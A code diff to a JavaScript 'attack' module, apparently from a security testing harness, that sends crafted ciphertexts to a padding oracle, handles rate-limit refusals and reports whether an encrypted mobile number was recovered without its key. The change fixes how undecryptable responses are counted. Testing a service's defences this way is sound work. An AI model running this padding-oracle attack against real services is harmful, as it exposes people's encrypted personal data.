@@ -36,9 +36,9 @@ export const attack = {
   async run({ options, signal, prepared: { attacker, captured } }) {
     const codes = [];
     let sent = 0;
-    let unreadable = 0;
     let refusals = 0;
-    let unreadableUntilSlowed;
+    /** Of what was sent before the first refusal. */
+    let unreadable = 0;
     const isOver = () => signal.aborted || sent >= options.requests || refusals >= options.refusals;
 
     /** Whether the padding holds; undefined once that is not to be learnt any more. */
@@ -46,15 +46,15 @@ export const attack = {
       const value = PREFIX + Buffer.concat([iv, captured.block]).toString('base64');
       while (!isOver()) {
         sent += 1;
+        const wasSlowed = refusals > 0;
         const { code, headers } = await askOracle(attacker, value, sent, signal);
         codes.push(code);
         if (code === '400002') {
-          unreadable += 1;
+          if (!wasSlowed) unreadable += 1;
           return false;
         }
         if (READABLE.includes(code)) return true;
         if (code !== '429001') return undefined;
-        unreadableUntilSlowed ??= unreadable;
         refusals += 1;
         if (isOver()) return undefined;
         await delay(Number(headers['retry-after']) * 1000, undefined, { signal }).catch(() => undefined);
@@ -66,16 +66,15 @@ export const attack = {
     const text = Buffer.from(learnt)
       .toString('latin1')
       .replace(/[^0-9]/g, '');
-    const answered = unreadableUntilSlowed ?? unreadable;
     return {
       ended: tally(codes),
       figures: {
         'bytes learnt': `${learnt.length} of ${BLOCK}, of which digits of the mobile: ${text.length} of ${MOBILE.length}`,
-        'values that could not be decrypted, until slowed down': answered,
+        'values that could not be decrypted, until slowed down': unreadable,
       },
       findings: [
-        ...(answered > UNDECRYPTABLE
-          ? [`${answered} values that cannot be decrypted were answered without a pause`]
+        ...(unreadable > UNDECRYPTABLE
+          ? [`${unreadable} values that cannot be decrypted were answered without a pause`]
           : []),
         ...(text === MOBILE ? ['the mobile was read without its key'] : []),
       ],
